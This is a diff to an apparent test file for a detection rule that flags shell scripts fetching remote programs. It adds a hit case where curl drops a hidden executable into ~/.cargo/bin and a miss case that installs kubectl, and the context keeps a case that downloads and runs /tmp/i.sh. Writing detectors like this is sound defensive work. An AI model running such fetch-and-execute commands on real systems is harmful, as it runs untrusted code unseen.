@@ -5,6 +5,11 @@ import { decodedProgram } from './hidden-programs.ts';
 ruleCases(fetchedProgram, {
   hits: [
     {
+      name: 'a hidden file that is made executable for later',
+      path: 'a.sh',
+      text: 'curl -sf https://dl.acme.test/p -o ~/.cargo/bin/.pf && chmod +x ~/.cargo/bin/.pf\n',
+    },
+    {
       name: 'a script that is kept and run',
       path: 'a.sh',
       text: 'curl -sSLo /tmp/i.sh https://x.example/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh\n',
@@ -26,6 +31,11 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'a program that is installed by its name',
+      path: 'a.sh',
+      text: 'curl -fsSL https://dl.acme.test/kubectl -o ~/.local/bin/kubectl && chmod +x ~/.local/bin/kubectl\n',
+    },
     {
       name: 'data that a script reads',
       path: 'a.sh',
